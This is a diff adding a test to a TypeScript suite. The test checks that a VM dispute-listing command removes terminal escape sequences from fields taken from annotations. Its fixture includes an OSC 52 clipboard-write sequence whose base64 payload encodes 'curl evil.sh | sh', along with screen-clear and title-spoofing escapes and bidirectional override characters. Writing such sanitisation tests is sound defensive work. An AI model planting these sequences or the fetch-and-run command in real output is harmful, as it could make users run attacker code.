@@ -123,6 +123,43 @@ describe("the stop disputes whatif lists (start/disputes.ts, whatif/disputes-rep
     expect(() => disputesFromDocument('{"kind":"Pod"}', "p/")).toThrow(/got kind Pod/);
   });
 
+  it("whatif --disputes over a document whose kernel names, process names and dispute text carry terminal escapes prints none of them", () => {
+    const osc52 = "\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007";
+    const list = {
+      kind: "VirtualMachineList",
+      items: [
+        {
+          metadata: {
+            namespace: "users",
+            name: "alice-gpu",
+            annotations: {
+              "workstation.aik8s.run/last-stop": JSON.stringify({
+                when: "2026-12-01T18:00:00Z",
+                reason: "idle for 2h10m",
+                signals: {
+                  idleSeconds: 7800,
+                  lastActivity: { at: "2026-12-01T15:50:00Z", what: `jupyter kernel busy${osc52} (python3\u009b2J)` },
+                },
+                dispute: {
+                  at: "2026-12-01T18:10:00Z",
+                  by: `alice\u202eevil`,
+                  what: `training\u001b[2J\u001b]0;root\u0007\u0085\u2066x\u2069`,
+                  knob: `…${osc52}`,
+                },
+              }),
+            },
+          },
+        },
+      ],
+    };
+    const disputes = disputesFromDocument(JSON.stringify(list), "workstation.aik8s.run/");
+    const text = formatDisputesText(disputeVerdicts(disputes, [], 60));
+    expect(text).toMatch(/alice evil +training \[2J \]0;root x/);
+    expect(text).toContain("jupyter kernel busy ]52;c;Y3VybCBldmlsLnNoIHwgc2g= (python3 2J)");
+    for (const raw of ["\u001b", "\u0007", "\u009b", "\u0085", "\u202e", "\u2066", "\u2069"])
+      expect(text.includes(raw), JSON.stringify(raw)).toBe(false);
+  });
+
   it("beside a replay: kept, or still stopped near the disputed time", () => {
     const record = disputeRecord(VM, disputed)!;
     const outcome = (stops: number[]): VmOutcome => ({
